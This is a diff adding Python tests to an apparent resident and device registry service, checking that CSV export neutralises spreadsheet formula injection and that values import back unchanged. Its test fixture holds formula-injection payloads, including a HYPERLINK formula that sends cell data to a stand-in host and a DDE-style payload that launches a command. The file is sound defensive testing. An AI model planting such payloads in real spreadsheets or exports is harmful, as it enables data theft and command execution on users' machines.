@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import aiohttp
 import pytest
 import yaml
@@ -186,3 +189,57 @@ async def test_import_needs_text(embedded_bridge: RunningBridge) -> None:
         ) as resp,
     ):
         assert resp.status == 200 and (await resp.text()).startswith("id,kind,resident_id")
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"Ada")',
+    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "key_safe": "+1942",
+    "medical_notes": "-2+3 insulin",
+}
+
+
+def test_csv_cells_never_start_a_formula_and_import_back_unchanged() -> None:
+    from devices.csv_yaml import safe_cell, unquote_cell
+    from devices.registry import Resident
+
+    for value in ["=1+1", "+44", "-x", "@x", "\tx", "'=x", "''+x", "plain", "it's", "'plain", ""]:
+        cell = safe_cell(value)
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), value
+        assert unquote_cell(cell) == value
+    responders = [{"name": "=Tom", "phone": "+447700900123"}]
+    resident = Resident.model_validate({"id": "res-f", **FORMULAS, "responders": responders})
+    text = to_csv("residents", [resident])
+    for row in list(csv.reader(io.StringIO(text)))[1:]:
+        assert all(not cell.startswith(("=", "+", "-", "@")) for cell in row), row
+    again = parse_csv(text, "residents")
+    assert again.ok and [r for _, r in again.residents] == [resident]
+
+
+async def test_api_csv_export_defuses_formula_cells(embedded_bridge: RunningBridge) -> None:
+    b = embedded_bridge
+    status, _ = await b.call(
+        "POST", "/api/v1/residents", user="ian", role="installer", json={"id": "res-f", **FORMULAS}
+    )
+    assert status == 201
+    status, _ = await b.call(
+        "POST", "/api/v1/devices", user="ian", role="installer",
+        json={"id": "unit-f", "kind": "gsm_unit", "resident_id": "res-f", "phone": "+447700900001"},
+    )
+    assert status == 201
+    for kind in ("residents", "devices"):
+        status, text = await b.call(
+            "GET", f"/api/v1/registry/export?format=csv&kind={kind}", user="ian", role="installer"
+        )
+        assert status == 200
+        rows = list(csv.DictReader(io.StringIO(text)))
+        for row in rows:
+            assert all(not v.startswith(("=", "+", "-", "@")) for v in row.values()), row
+        if kind == "residents":
+            assert rows[0]["name"] == "'" + FORMULAS["name"] and rows[0]["key_safe"] == "'+1942"
+            status, report = await post_file(b, "format=csv&kind=residents&update=1", text)
+            assert status == 200 and report["updated"]["residents"] == 1
+            status, body = await b.call("GET", "/api/v1/residents/res-f", user="ian", role="installer")
+            assert {k: body[k] for k in FORMULAS} == FORMULAS
+        else:
+            assert rows[0]["phone"] == "'+447700900001"
